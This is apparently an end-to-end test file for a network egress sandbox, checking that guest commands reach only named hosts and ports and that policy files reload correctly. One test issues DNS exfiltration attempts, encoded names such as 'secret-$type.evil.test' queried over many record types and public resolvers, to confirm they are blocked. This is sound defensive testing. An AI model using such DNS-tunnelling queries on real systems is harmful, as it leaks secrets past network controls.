/**
 * Egress by name, from a command in a guest to servers of a world: raw rules, the name server, own addresses, reload.
 */
import { WORLD, WORLD_LINK } from "../../../scripts/lab/lab.ts";
import { programCommand, PROJECT } from "../../../scripts/lab/program.ts";
import { clientCommand } from "../../../scripts/lab/services.ts";
import { until } from "../../../scripts/lab/until.ts";
import { assert, assertEquals, assertMatch, assertStringIncludes } from "../../assert.ts";
import { Bed, e2e } from "../bed/bed.ts";
import { RunBed } from "../bed/run_bed.ts";

const CURL = "curl --silent --show-error --max-time 10";
const PLACE = new URL("../../..", import.meta.url).pathname;
const OWN4 = /^198\.1[89]\.\d+\.\d+$/m, OWN6 = /^fd00::5e:[0-9a-f:]+$/m;

let made: Promise<RunBed> | null = null;
const bed = () => made ??= RunBed.create();
Deno.test.afterAll(async () => await (await made)?.[Symbol.asyncDispose]());

/** The questions to the host's name server while a function ran. */
async function askedDuring(resolver: RunBed["resolver"], run: () => Promise<void>): Promise<string[]> {
  const from = resolver.stdout.length;
  await run();
  return resolver.stdout.slice(from).filter((line) => line.startsWith("asked"));
}

e2e("run -only: the named ports of the named hosts, and nothing else", async () => {
  const { run, resolver, nothingLeft } = bound(await bed());
  const udp = clientCommand("udp", "world.test", 7, 1, 1400, 30_000).join(" ").replaceAll(PLACE, "./");
  const script = `
    ${CURL} http://world.test/ http://world6.test/
    dig +short world.test; dig +short world6.test AAAA
    ${udp} 2>&1 | tail -n 1
    ${CURL} http://world.test:7/ 2>&1; echo port: $?
    ${CURL} http://${WORLD.v4}/ 2>&1; echo address: $?
    ${CURL} 'http://[${WORLD.v6}]/' 2>&1; echo IPv6 address: $?
    ${CURL} http://198.18.0.1/ 2>&1; echo stale: $?
    ping -c 1 -W 5 world.test > /dev/null; echo ping: $?`;
  const rules = "tcp://world.test:80,udp://world.test:7,tcp://world6.test:80";
  const asked = await askedDuring(resolver, async () => {
    const { stdout, stderr, code } = await run(["-only", rules, "sh", "-c", script]);
    assertEquals(code, 0, `exit status: ${stdout}${stderr}`);
    assertEquals(stdout.match(/^Hello, /gm)?.length, 2, `both pages: ${stdout}`);
    assertMatch(stdout, OWN4, "the A record is an own address");
    assertMatch(stdout, OWN6, "and the AAAA record");
    assert(!stdout.includes(`\n${WORLD.v4}\n`), `the real address does not show: ${stdout}`);
    assertMatch(stdout, /"error": null/, "datagrams");
    assertMatch(stdout, /^port: 7$/m, "another port is refused at once");
    assertMatch(stdout, /^address: 7$/m, "the address without its name");
    assertMatch(stdout, /^IPv6 address: 7$/m, "and over IPv6");
    assertMatch(stdout, /^stale: 7$/m, "an own address without a name");
    assertMatch(stdout, /^ping: 0$/m, "the program answers pings");
    assertMatch(stderr, /-only '.*203\.0\.113\.1:80.*world\.test:7/, "what would have let it, at the end");
  });
  for (const line of asked) {
    assertMatch(line, /^asked udp world6?\.test (A|AAAA|1|28)$/, "only these names and types leave");
  }
  await nothingLeft();
});

e2e("run -only: no question leaves for a name without a rule, by any server, type or transport", async () => {
  const { run, resolver, nothingLeft } = bound(await bed());
  const script = `
    getent hosts c2VjcmV0.evil.test || echo getent: $?
    for type in A AAAA TXT MX SRV HTTPS ANY NULL CNAME PTR; do
      dig +short +tries=1 +time=5 secret-$type.evil.test $type
      dig +tcp +tries=1 +time=5 @${WORLD.v4} secret-$type.evil.test $type | grep -o 'status: [A-Z]*'
    done
    for server in 10.0.2.3 fd00::3 8.8.8.8 2001:4860:4860::8888 ${WORLD.v4}; do
      dig +tries=1 +time=5 @$server secret.evil.test | grep -o 'status: [A-Z]*\\|EDE: 15 (Blocked)'
    done
    dig +short +tries=1 -t HTTPS world.test; dig -t HTTPS world.test | grep -o 'status: [A-Z]*'
    dig +short -x $(dig +short world.test)`;
  const asked = await askedDuring(resolver, async () => {
    const { stdout, code } = await run(["-only", "tcp://world.test:80", "-quiet", "sh", "-c", script]);
    assertEquals(code, 0, `exit status: ${stdout}`);
    assertStringIncludes(stdout, "getent: 2");
    assertEquals(stdout.match(/status: NXDOMAIN/g)?.length, 15, stdout);
    assertEquals(stdout.match(/EDE: 15 \(Blocked\)/g)?.length, 5, stdout);
    assertMatch(stdout, /status: NOERROR\nworld\.test\.\n$/, "no data for HTTPS; the own address has its name");
  });
  assertEquals(asked.filter((line) => !/^asked udp world\.test (A|1)$/.test(line)), [], "what left");
  await nothingLeft();
});

e2e("run -only: a rule that can't be had is no start", async () => {
  const { run } = bound(await bed());
  for (
    const [rule, reason] of [
      ["tcp://*.com:22", "a public suffix"],
      ["ftp://world.test", "unknown kind"],
      ["@nmp", "unknown preset"],
      ["tcp://world.test", "need a port"],
    ] as const
  ) {
    const { code, stderr } = await run(["-only", rule, "true"]);
    assertEquals(code, 2, rule);
    assertStringIncludes(stderr, reason, rule);
  }
  const both = await run(["-only", "tcp://world.test:80", "-enable-routing", "true"]);
  assertEquals(both.code, 2, "with routing");
  assertStringIncludes(both.stderr, "-enable-routing opens the internet");
  const noDns = await run(["-only", "tcp://world.test:80", "-dns=false", "true"]);
  assertEquals(noDns.code, 2, "without a name server");
});

e2e("run -only with nothing denies all", async () => {
  const { run, resolver } = bound(await bed());
  const script = `${CURL} http://${WORLD.v4}/ 2>&1; echo address: $?; getent hosts world.test || echo name: $?`;
  const asked = await askedDuring(resolver, async () => {
    const { stdout } = await run(["-only", "", "-quiet", "sh", "-c", script]);
    assertMatch(stdout, /address: 7\nname: 2\n/);
  });
  assertEquals(asked, []);
});

e2e("run -only: a name that leads into the host is refused, unless its address has a rule", async () => {
  const { run } = bound(await bed());
  const script = `for name in loop.test link.test; do ${CURL} http://$name/ > /dev/null 2>&1; echo $name: $?; done`;
  const rules = "tcp://loop.test:80,tcp://link.test:80";
  const closed = await run(["-only", rules, "-quiet", "sh", "-c", script]);
  assertEquals(closed.stdout, "loop.test: 6\nlink.test: 6\n", "no address");
  const opened = await run(["-only", `${rules},${WORLD_LINK.v4}:80`, "-quiet", "sh", "-c", script]);
  assertEquals(opened.stdout, "loop.test: 6\nlink.test: 0\n", "the address has a rule");
});

e2e(
  "-policy: SIGHUP reads the file again, in the sandbox; a bad file leaves the rules; open flows are judged again",
  async () => {
    await using bed = await Bed.create({ mode: "tap", mtu: 1500 });
    const { lab } = bed;
    const folder = `${lab.directory}/policy`, path = `${folder}/p.json`;
    await Deno.mkdir(folder, { mode: 0o755 });
    await Deno.chmod(lab.directory, 0o755);
    const write = async (rules: readonly string[]) => {
      await Deno.writeTextFile(`${path}.new`, JSON.stringify({ version: 1, rules: rules.map((allow) => ({ allow })) }));
      await Deno.rename(`${path}.new`, path); // as careful programs do
    };
    await write([`${WORLD.v4}:9006`, `${WORLD.v4}:80`, "tcp://b\u00fccher.test:22"]);
    await bed.restart(["-policy", path, "-sandbox"]);
    const { program } = bed;
    await program.line("stderr", /^\[\.\] The name b\u00fccher\.test of a rule is xn--bcher-kva\.test$/);
    const watch = lab.adopt(
      bed.guest.start(["bash", "-c", `exec 3<>/dev/tcp/${WORLD.v4}/9006; echo kept >&3; cat <&3; echo over`]),
    );
    await watch.line("stdout", /^kept$/);
    const fetch = () =>
      bed.guest.run(["curl", "--silent", "--max-time", "10", "--output", "/dev/null", `http://${WORLD.v4}/`]);
    assertEquals((await fetch()).code, 0, "port 80 is open");

    await write([`${WORLD.v4}:9006`]);
    program.signal("SIGHUP");
    await program.line("stderr", /^\[\.\] Policy read again from .*p\.json: generation 2$/);
    assertEquals((await fetch()).code, 7, "port 80 is closed");
    assertEquals(watch.stdout, ["kept"], "the open connection stays");

    await Deno.writeTextFile(path, `{ "version": 1, "ruels": [] }`);
    program.signal("SIGHUP");
    await program.line("stderr", /^\[!\] The policy stays as it was: .*p\.json:1:17: unknown key "ruels"/);
    assertEquals(watch.stdout, ["kept"], "the rules are the former ones");

    await write([`${WORLD.v4}:80`]);
    program.signal("SIGHUP");
    await program.line("stderr", /generation 3$/);
    await watch.line("stdout", /^over$/);
    await until("the page", 5_000, async () => (await fetch()).code === 0);

    const api = `${lab.directory}/api`;
    await bed.restart(["-only", `${WORLD.v4}:7`, "-api", `unix://${api}`, "-sandbox"]);
    const policy = async (...more: string[]) =>
      (await lab.host.run(["curl", "--silent", "--unix-socket", api, "http://x/policy", ...more])).stdout;
    assertEquals((await fetch()).code, 7, "over the API: before");
    const added = JSON.stringify({ version: 1, use: ["@npm"], rules: [{ allow: `${WORLD.v4}:80` }] });
    assertEquals(await policy("--data", added), '{"generation":2}\n');
    assertEquals((await fetch()).code, 0, "after");
    assertStringIncludes(await policy(), `"rules":["registry.npmjs.org","${WORLD.v4}:7","${WORLD.v4}:80"]`);
    assertMatch(await policy("--data", `{ "version": 2 }`), /^policy:1:14: /);
    assertEquals((await fetch()).code, 0, "after a fault");

    await Deno.remove(path);
    const { code, stderr } = await lab.host.run([...programCommand(), "-policy", path], { cwd: PROJECT });
    assertEquals(code, 2, "no start without the file");
    assertStringIncludes(stderr, "[!] Failed to read the policy: ");
  },
);

function bound(bed: RunBed) {
  return {
    resolver: bed.resolver,
    run: bed.run.bind(bed),
    nothingLeft: bed.nothingLeft.bind(bed),
  };
}
